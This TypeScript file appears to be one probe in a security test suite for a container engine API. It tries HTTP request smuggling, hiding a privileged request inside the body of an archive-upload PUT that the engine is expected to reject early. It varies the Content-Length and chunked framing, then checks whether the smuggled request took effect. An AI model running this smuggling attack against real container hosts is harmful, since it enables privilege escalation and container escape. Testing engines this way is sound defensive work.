import { type Attempt, each, privileged, request, v } from './book';

export const attempt: Attempt = {
  title: 'put a request for the engine into an upload that it refuses early',
  source: 'bytes of a body that nobody has read, and a connection that is used again',
  async try(world) {
    const hidden = privileged(world);
    const head = [`Host: ${world.address}`, 'Content-Type: application/x-tar'];
    const line = `PUT ${v}/containers/${world.own.container.id}/archive?path=/nothing/there HTTP/1.1`;
    const replies = await each([request(line, [...head, `Content-Length: ${hidden.length}`, 'Connection: close'], hidden), request(line,
      [...head, 'Transfer-Encoding: chunked', 'Connection: close'],
      `${hidden.length.toString(16)}\r\n${hidden.toString('latin1')}\r\n0\r\n\r\n`), request(line, [...head, 'Content-Length: 0'], hidden),
      request(line, [...head, 'Content-Length: 10'], hidden)], (raw) => world.send(raw));
    return [...replies, ...(await each(['nothing', 'nothing', 'nothing'], (name) => world.call('GET', `${v}/containers/${name}/json`)))];
  },
};
